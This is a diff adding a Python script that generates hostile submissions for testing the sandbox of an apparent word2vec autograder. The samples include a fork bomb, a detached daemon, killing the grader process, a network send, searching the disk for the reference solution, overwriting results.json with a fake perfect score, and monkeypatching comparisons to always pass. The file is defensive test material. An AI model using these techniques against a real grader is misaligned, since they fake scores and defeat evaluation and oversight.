@@ -1,0 +1,234 @@
+"""Regenerate the hostile corpus: submissions that attack the grader instead of (or besides)
+doing the work. Each is the correct submission (build_corpus.GOOD) plus one behaviour.
+
+    .venv/bin/python tests/corpus/build_hostile.py
+
+Never run these files outside the sandbox under test. Every one is bounded (forks, file
+walks, sleeps) so even an unsandboxed run would end on its own. Processes they leave behind
+name themselves w2v-hostile (in /proc/PID/comm), so tests can prove none survived.
+
+Files whose cheat could earn points on its own (finding the reference, fooling comparisons)
+carry a WRONG sigmoid that only a successful cheat would make right: a contained attack
+scores 0 on sigmoid, a working one full marks. EXPECTED in tests/test_lockdown.py says what
+each should score.
+"""
+
+import textwrap
+
+from build_corpus import GOOD, HERE, fill
+
+MARK = """
+def _mark_as_hostile():
+    # name this process "w2v-hostile", so a test can find any that survives grading
+    import ctypes
+    ctypes.CDLL(None).prctl(15, b"w2v-hostile", 0, 0, 0)
+"""
+
+
+
+def then_good(first, function):
+    """`first`, then the correct body of `function`."""
+    return textwrap.dedent(first).strip("\n") + "\n" + textwrap.dedent(GOOD[function]).strip("\n")
+
+
+WRONG_SIGMOID = "s = np.zeros_like(np.asarray(x, dtype=float))"
+
+HOSTILE = {
+    "infinite_loop": ("naiveSoftmaxLossAndGradient loops forever.", "", {
+        "naiveSoftmaxLossAndGradient": "while True:\n    pass"}),
+    "sleep_per_call": ("sigmoid sleeps 2 s on every call, then answers correctly.",
+                       "import time\n", {"sigmoid": then_good("time.sleep(2)", "sigmoid")}),
+    "memory_hog": ("naiveSoftmaxLossAndGradient allocates 6 GB before answering.", "", {
+        "naiveSoftmaxLossAndGradient": then_good("hog = np.ones(6 * 2**30 // 8)",
+                                                 "naiveSoftmaxLossAndGradient")}),
+    "os_exit": ("sigmoid ends the process with os._exit(3).", "import os\n", {
+        "sigmoid": "os._exit(3)"}),
+    "sys_exit": ("skipgram calls sys.exit(0).", "import sys\n", {"skipgram": "sys.exit(0)"}),
+    "kill_self": ("negSamplingLossAndGradient sends SIGKILL to its own process.",
+                  "import os\nimport signal\n", {
+        "negSamplingLossAndGradient": "os.kill(os.getpid(), signal.SIGKILL)"}),
+    "kill_parent": ("naiveSoftmaxLossAndGradient tries to SIGKILL its parent (the grader, it "
+                    "hopes), then answers correctly.", "import os\nimport signal\n", {
+        "naiveSoftmaxLossAndGradient": then_good("""
+            try:
+                os.kill(os.getppid(), signal.SIGKILL)
+            except OSError as exc:
+                print("kill parent failed:", exc)""", "naiveSoftmaxLossAndGradient")}),
+    "segfault": ("skipgram dereferences a null pointer through ctypes.", "import ctypes\n", {
+        "skipgram": "ctypes.string_at(0)"}),
+    "fork_bomb": ("sigmoid forks (at most 200) sleeping children once, then answers.",
+                  "import os\nimport time\n" + MARK + """
+_forked = []
+
+
+def _fork_bomb():
+    for _ in range(200):
+        try:
+            pid = os.fork()
+        except OSError as exc:
+            print("fork failed after", len(_forked), "children:", exc)
+            return
+        if pid == 0:
+            _mark_as_hostile()
+            time.sleep(30)
+            os._exit(0)
+        _forked.append(pid)
+""", {"sigmoid": then_good("if not _forked:\n    _fork_bomb()", "sigmoid")}),
+    "double_fork": ("At import, a detached grandchild (new session) that outlives the worker "
+                    "and keeps writing.", "import os\nimport time\n" + MARK + """
+
+def _daemon():
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            _mark_as_hostile()
+            for _ in range(60):
+                time.sleep(0.5)
+                print("daemon still alive", flush=True)
+        os._exit(0)
+
+
+_daemon()
+""", {}),
+    "network": ("At import, connects to a loopback port (the test listens there) and to "
+                "192.0.2.1 (TEST-NET-1, never routed), reporting what happened.",
+                "import socket\n" + """
+
+def _try_connect(host, port):
+    try:
+        with socket.create_connection((host, port), timeout=1) as conn:
+            conn.sendall(b"leaked")
+        print(f"network: connected to {host}")
+    except OSError as exc:
+        print(f"network: {host} unreachable ({exc})")
+
+
+_try_connect("127.0.0.1", 47654)
+_try_connect("192.0.2.1", 80)
+""", {}),
+    "read_solutions": ("Looks for the reference on disk (kit paths, then a bounded walk of "
+                       "the whole tree); its own sigmoid is wrong, the reference's would "
+                       "score.", "import os\nimport time\n" + """
+
+def _find_reference():
+    here = os.path.dirname(os.path.abspath(__file__))
+    guesses = [os.path.join(here, *[".."] * up, "solutions", "word2vec.py") for up in range(5)]
+    guesses += ["/autograder/source/solutions/word2vec.py"]
+    started, seen = time.monotonic(), 0
+    for root, dirs, files in os.walk("/"):
+        dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev")]
+        seen += len(files)
+        if seen > 200000 or time.monotonic() - started > 3:
+            break
+        guesses += [os.path.join(root, f) for f in files if f in ("word2vec.py", "rubric.toml")]
+    for path in guesses:
+        try:
+            with open(path) as handle:
+                text = handle.read()
+        except OSError:
+            continue
+        if "BEGIN SOLUTION" in text or "matches_reference" in text:
+            print("found the reference:", path)
+            return text
+    print("no reference found")
+    return None
+
+
+_reference = _find_reference()
+if _reference and "BEGIN SOLUTION" in _reference:
+    _namespace = {}
+    exec(_reference, _namespace)
+""", {"sigmoid": WRONG_SIGMOID + "\nif _reference and 'BEGIN SOLUTION' in _reference:\n"
+                                 "    s = _namespace['sigmoid'](x)"}),
+    "import_solutions": ("Imports the reference as a module, and looks for it in the worker's "
+                         "memory; its own sigmoid is wrong.", "import gc\nimport sys\n" + """
+_reference = None
+for _path in ("..", "../..", "../../..", "/autograder/source"):
+    sys.path.append(_path)
+try:
+    import solutions.word2vec as _reference
+    print("imported the reference")
+except ImportError as exc:
+    print("import solutions failed:", exc)
+for _obj in gc.get_objects():
+    if getattr(_obj, "__name__", "") in ("_word2vec_reference", "solutions.word2vec"):
+        _reference = _obj
+        print("found the reference in memory")
+""", {"sigmoid": WRONG_SIGMOID + "\nif _reference is not None:\n"
+                                 "    s = _reference.sigmoid(x)"}),
+    "results_overwrite": ("At import, writes a perfect results.json wherever it can find one "
+                          "(arguments of every visible process, Gradescope's path), now and "
+                          "from a detached child after grading.", "import os\nimport time\n"
+                          + MARK + """
+FAKE = '{"score": 1000, "tests": []}'
+
+
+def _targets():
+    paths = ["/autograder/results/results.json"]
+    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as handle:
+                args = handle.read().decode(errors="replace").split("\\0")
+        except OSError:
+            continue
+        paths += [a for a in args if a.endswith(".json")]
+    return paths
+
+
+def _overwrite():
+    for path in _targets():
+        try:
+            with open(path, "w") as handle:
+                handle.write(FAKE)
+            print("overwrote", path)
+        except OSError as exc:
+            print("could not write", path, exc)
+
+
+_overwrite()
+if os.fork() == 0:
+    os.setsid()
+    _mark_as_hostile()
+    for _ in range(20):
+        time.sleep(0.5)
+        _overwrite()
+    os._exit(0)
+""", {}),
+    "monkeypatch": ("Patches numpy's and Python's comparisons to always agree; its sigmoid "
+                    "is wrong.", "import builtins\nimport math\n" + """
+np.allclose = lambda *args, **kwargs: True
+np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
+np.array_equal = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+math.isclose = lambda *args, **kwargs: True
+builtins.abs = lambda x: 0
+builtins.isinstance = lambda obj, cls: True
+""", {"sigmoid": WRONG_SIGMOID}),
+    "output_flood": ("Prints megabytes at import and on every call, through print and "
+                     "straight to file descriptors 1 and 2.", "import os\nimport sys\n" + """
+print("flood " * 2_000_000)
+os.write(2, b"raw flood " * 500_000)
+
+
+def _flood():
+    sys.stdout.write("x" * 1_000_000)
+    try:
+        os.write(1, b"y" * 1_000_000)
+    except OSError:
+        pass
+""", {name: then_good("_flood()", name) for name in GOOD}),
+}
+
+
+def main():
+    folder = HERE / "hostile"
+    folder.mkdir(exist_ok=True)
+    for name, (what, prelude, payloads) in HOSTILE.items():
+        text = fill(payloads)
+        anchor = "from utils.utils import normalizeRows, softmax\n"
+        text = text.replace(anchor, anchor + "\n# HOSTILE: " + what + "\n" + prelude, 1)
+        (folder / f"{name}.py").write_text(text)
+
+
+if __name__ == "__main__":
+    main()
